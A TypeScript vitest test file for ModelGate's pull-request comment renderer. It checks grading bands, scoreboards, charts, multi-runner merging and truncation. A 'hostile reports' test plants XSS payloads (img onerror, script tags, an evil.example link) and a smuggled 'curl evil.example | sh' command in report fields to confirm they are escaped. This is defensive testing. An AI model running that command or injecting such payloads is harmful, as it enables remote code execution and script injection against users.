import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import {
  COMMENT_LIMIT,
  accuracyBand,
  latencyBand,
  mseBand,
  paretoFront,
  renderComment,
  renderMergedComment,
  reportDeltas,
  sizeBand,
} from '../../src/report/comment.js';
import type { Report } from '../../src/report/types.js';
import { candidate, failingReport, passingReport, regressedCompareReport } from './fixtures.js';

const md = new MarkdownIt({ html: true, linkify: true });
const headline = (body: string) => body.split('\n')[0]!;

describe('bands', () => {
  it('grades size like compressed-size: 🎉 ≤ −50%, 👏 < −5%, 🆗 within ±5%, ⚠️ > +5%, 🚨 > +20% or a failed budget', () => {
    expect([0.26, 0.5, 0.51, 0.94, 0.95, 1, 1.05, 1.06, 1.2, 1.21].map((r) => sizeBand(r))).toEqual(['🎉', '🎉', '👏', '👏', '🆗', '🆗', '🆗', '⚠️', '⚠️', '🚨']);
    expect(sizeBand(0.3, true)).toBe('🚨');
  });

  it('grades accuracy in points; with a budget only a failed check is 🚨', () => {
    expect([1.5, 0.5, 0.05, -0.05, -0.5].map((d) => accuracyBand(d))).toEqual(['🎉', '👏', '🆗', '🆗', '⚠️']);
    expect(accuracyBand(-1.5)).toBe('🚨');
    expect(accuracyBand(-1.5, false, true)).toBe('⚠️');
    expect(accuracyBand(-0.3, true, true)).toBe('🚨');
    expect([-0.2, 0, 0.1, 0.3].map((r) => mseBand(r))).toEqual(['👏', '🆗', '⚠️', '🚨']);
  });

  it('grades latency by the verdict, not the point estimate', () => {
    expect(latencyBand(1.6, 'significant regression', 1.1)).toBe('🚨');
    expect(latencyBand(1.15, 'within noise', 1.1)).toBe('⚠️');
    expect(latencyBand(1.08, 'within noise', 1.1)).toBe('🆗');
    expect(latencyBand(0.88, 'significant improvement', 1.1)).toBe('👏');
    expect(latencyBand(0.4, 'significant improvement', 1.1)).toBe('🎉');
    expect(latencyBand(0.88, 'within noise', 1.1, true)).toBe('🚨');
  });
});

describe('renderComment, one run', () => {
  it('says passed and shows the selected model against the reference in the first lines', () => {
    const body = renderComment(passingReport(), { runUrl: 'https://github.com/o/r/actions/runs/1' });
    expect(headline(body)).toBe('### ✅ ModelGate passed: selected **int8-dynamic**');
    const board = body.split('\n').slice(0, 8).join('\n');
    expect(board).toContain('🎉 **−73.8%**<br><sub>213.5 KB → 55.9 KB</sub>');
    expect(board).toContain('🆗 **+0.05 pt**<br><sub>96.20% → 96.25%</sub>');
    expect(board).toMatch(/👏 \*\*0\.88×\*\*<br><sub>23\.3 µs → 20\.6 µs, 12% faster<\/sub>/);
  });

  it('puts each budget in its column header and its verdict in the cell, with the failing messages under the table', () => {
    const body = renderComment(passingReport());
    expect(body).toContain('| | candidate | size<br><sub>budget ≤ 293.0 KB</sub> | accuracy<br><sub>drop ≤ 0.5 pt</sub> | p50 latency<br><sub>≤ 1.10× ref</sub> |');
    const row = body.split('\n').find((l) => l.includes('| int8-static |'))!;
    expect(row).toMatch(/^\| ❌ \| int8-static \| ✅ 57\.1 KB<br><sub>🎉 −73\.2%<\/sub> \| ✅ 96\.25%.* \| ❌ 38\.0 µs<br><sub>🚨 1\.63×<\/sub> \|$/);
    expect(body.split('\n').find((l) => l.includes('**int8-dynamic** |'))).toMatch(/^\| ⭐ /);
    expect(body).toContain('> ❌ **int8-static** · p50 ≤ 1.10×: p50 1.63× the reference');
  });

  it('draws the latency distribution and size against accuracy, and keeps details collapsed', () => {
    const body = renderComment(passingReport());
    expect(body).toContain('xychart-beta');
    expect(body).toContain('x-axis ["p5", "p10", "p25", "p50", "p75", "p90", "p95", "p99"]');
    expect(body).toContain('quadrantChart');
    expect(body).toMatch(/<details><summary>Pareto front: 1 of 4 candidates<\/summary>/);
    expect(body).toContain('<details><summary>Runner: AMD EPYC 7763 64-Core Processor, linux x64</summary>');
    expect(body).toContain('npx modelgate run --config examples/mnist/modelgate.yml');
    const html = md.render(body);
    expect((html.match(/<details>/g) ?? []).length).toBe(3);
  });

  it('says failed and which budgets failed', () => {
    const body = renderComment(failingReport());
    expect(headline(body)).toBe('### ❌ ModelGate failed: no candidate passed the gate');
    expect(body).toContain('failing: size ≤ 1000 B');
    expect(body).not.toContain('| size | accuracy | p50 latency |');
    expect(body.match(/^> ❌ /gm)).toHaveLength(6);
  });

  it('shows a run that could not run as an error with the message', () => {
    const r = { ...passingReport(), passed: false, selected: null, candidates: [], error: 'modelgate.yml: gate.size_bytes_max must be a number (modelgate.yml:17:19)' };
    const body = renderComment(r);
    expect(headline(body)).toBe('### 💥 ModelGate could not run');
    expect(body).toContain('> modelgate.yml: gate.size\\_bytes\\_max must be a number');
  });
});

describe('renderComment, against base', () => {
  it('says in its first line that the PR made the model worse, and why', () => {
    const body = renderComment(regressedCompareReport());
    expect(headline(body)).toBe('### ❌ ModelGate: this PR makes the model worse: accuracy −3.15 pt');
    expect(body).toContain('against base **main** (01d02ad0) → b608e73f');
    expect(body).toContain('🚨 **−3.15 pt**<br><sub>96.25% → 93.10%</sub>');
    expect(body).toContain('| | head vs base | size<br><sub>budget ≤ 293.0 KB</sub>');
    expect(body).toContain('p50 latency<br><sub>≤ 1.10× base</sub>');
    expect(body).toContain('  title "Latency percentiles (µs): base = bars, head = line"');
    expect(body).toContain('  title Size vs accuracy (centre: base model)');
    expect(body).toContain('npx modelgate compare --config examples/mnist/modelgate.yml --base main');
  });

  it('reports the deltas against base as data', () => {
    expect(reportDeltas(regressedCompareReport())).toMatchObject({
      against: 'base', candidate: 'int8-dynamic', compared_with: 'int8-dynamic',
      size: { from_bytes: 57_255, to_bytes: 57_301 },
      accuracy: { from: 0.9625, to: 0.931 },
      latency: { verdict: 'within noise' },
    });
    expect(reportDeltas(passingReport())).toMatchObject({ against: 'reference', candidate: 'int8-dynamic', latency: { verdict: 'significant improvement' } });
    expect(reportDeltas(failingReport())).toBeNull();
  });
});

describe('hostile reports', () => {
  function hostile(): Report {
    const r = passingReport();
    const evil = '<img src=x onerror=alert(1)> [pwn](https://evil.example) @octocat #1 `x` | </details>';
    r.candidates[2]!.id = `int8 ${evil}`;
    r.candidates[2]!.checks[1]!.message = `${evil}\n\n<script>alert(1)</script>`;
    r.hardware.cpu = `CPU ${evil}`;
    r.hardware.os = `linux ${evil}`;
    r.runtime.onnxruntime = `1.30 ${evil}`;
    r.config = `x.yml; curl evil.example | sh`;
    r.selected = r.candidates[2]!.id;
    return r;
  }

  it('leaves no HTML, link, image or mention of its own in the rendered comment', () => {
    const body = renderComment(hostile());
    const html = md.render(body);
    expect(html).not.toMatch(/<img|<script|href="https:\/\/evil/i);
    expect(html).not.toMatch(/@octocat/);
    // The only details blocks are ours, and each is closed.
    expect((html.match(/<details>/g) ?? []).length).toBe((html.match(/<\/details>/g) ?? []).length);
    // A config path that is not a plain path is not put in the shell command.
    expect(body).toContain('npx modelgate run --config modelgate.yml');
    // Mermaid blocks carry only safe labels.
    for (const block of body.match(/```mermaid\n[\s\S]*?\n```/g) ?? []) expect(block.slice(10, -3).replace(/^%%\{init.*$/m, '').replace(/ --> /g, ' ')).not.toMatch(/[<>`|@#]|evil\.example/);
  });
});

describe('the 65,536-character limit', () => {
  function huge(): Report {
    const r = passingReport();
    const ref = r.candidates[0]!;
    for (let i = 0; i < 400; i++) {
      r.candidates.push(candidate(`candidate-${String(i).padStart(3, '0')}-${'x'.repeat(60)}`, 50_000 + i, 0.95, 0.03, [
        { name: 'latency_ratio_max', passed: false, message: `p50 ${'1.29× '.repeat(30)}` },
      ]));
    }
    expect(JSON.stringify(r).length).toBeGreaterThan(70_000);
    expect(ref.id).toBe('reference');
    return r;
  }

  it('drops detail before it cuts anything, keeps the headline and scoreboard, and says where the rest is', () => {
    const r = huge();
    const full = renderComment(r, { limit: 10_000_000 });
    expect(full.length).toBeGreaterThan(COMMENT_LIMIT);
    const body = renderComment(r, { runUrl: 'https://github.com/o/r/actions/runs/9', artifactName: 'modelgate-mnist' });
    expect(body.length).toBeLessThanOrEqual(COMMENT_LIMIT - 200);
    expect(headline(body)).toBe(headline(full));
    expect(body).toContain('🎉 **−73.8%**');
    expect(body).toMatch(/more not shown here: see the job summary or report\.json in the artifact/);
    expect(body).toContain("> Shortened to fit GitHub's 65,536-character comment limit. The full report is in the [job summary](https://github.com/o/r/actions/runs/9) and in report.json in the **modelgate-mnist** artifact.");
    const html = md.render(body);
    expect((html.match(/<details>/g) ?? []).length).toBe((html.match(/<\/details>/g) ?? []).length);
  });
});

describe('renderMergedComment', () => {
  const legs = () => {
    const linux = passingReport();
    const arm = passingReport();
    arm.hardware = { ...arm.hardware, cpu: 'Neoverse-N2', arch: 'arm64' };
    const mac = failingReport();
    mac.hardware = { ...mac.hardware, cpu: 'Apple M1 (Virtual)', arch: 'arm64', os: 'darwin 23.6.0' };
    return [
      { key: 'ubuntu-latest', report: linux, runner: { os: 'Linux', arch: 'X64' } },
      { key: 'ubuntu-24.04-arm', report: arm, runner: { os: 'Linux', arch: 'ARM64' } },
      { key: 'macos-latest', report: mac, runner: { os: 'macOS', arch: 'ARM64' } },
    ];
  };

  it('puts one column per runner and fails when any leg fails', () => {
    const body = renderMergedComment(legs());
    expect(headline(body)).toBe('### ❌ ModelGate failed on 1 of 3 runners: **macos-latest**');
    const header = body.split('\n').find((l) => l.startsWith('| | '))!;
    expect(header.split(' | ')).toHaveLength(4);
    expect(header).toContain('**macos-latest**<br><sub>macOS ARM64 · Apple M1 \\(Virtual\\)</sub>');
    expect(body).toContain('| **gate** | ❌ failed | ✅ passed | ✅ passed |');
    expect(body.split('\n').find((l) => l.startsWith('| int8-static |'))).toContain('<sub>❌ p50 ≤ 1.10×, size ≤ 1000 B</sub>');
  });

  it('passes when every leg passes', () => {
    const all = legs().slice(0, 2);
    expect(headline(renderMergedComment(all))).toBe('### ✅ ModelGate passed on all 2 runners');
  });
});

describe('paretoFront', () => {
  it('keeps what no other candidate beats on size, quality and latency at once', () => {
    expect(paretoFront(passingReport().candidates).map((c) => c.id)).toEqual(['int8-dynamic']);
  });
});
